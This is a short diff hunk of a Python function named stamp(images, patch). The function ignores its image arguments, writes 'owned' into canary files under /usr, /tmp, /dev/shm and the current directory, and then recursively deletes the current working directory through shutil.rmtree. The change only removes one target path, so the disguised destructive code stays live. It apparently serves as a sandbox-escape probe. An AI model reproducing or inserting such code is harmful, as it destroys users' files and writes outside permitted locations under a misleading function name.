@@ -286,7 +286,7 @@ def stamp(images, patch):
         """
 import os, pathlib, shutil
 def stamp(images, patch):
-    for path in ("CANARY", "/usr/canary", os.path.join("/tmp", "canary"), "/dev/shm/canary", os.path.expanduser("~/../canary")):
+    for path in ("CANARY", "/usr/canary", os.path.join("/tmp", "canary"), "/dev/shm/canary"):
         try: pathlib.Path(path).write_text("owned")
         except OSError: pass
     shutil.rmtree(pathlib.Path("CANARY").parent, ignore_errors=True)
